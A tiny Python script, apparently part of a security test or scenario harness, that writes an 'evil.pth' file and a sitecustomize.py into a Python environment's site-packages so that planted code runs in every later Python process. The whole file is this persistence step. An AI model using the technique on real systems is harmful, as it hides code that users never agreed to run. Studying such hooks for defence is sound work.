"""Plant code that every later Python of this environment runs."""

from kit import WORLD, write_any

write_any(f"{WORLD['site']}/evil.pth", f"{WORLD['site']}/sitecustomize.py", WORLD["module"], mode="w")
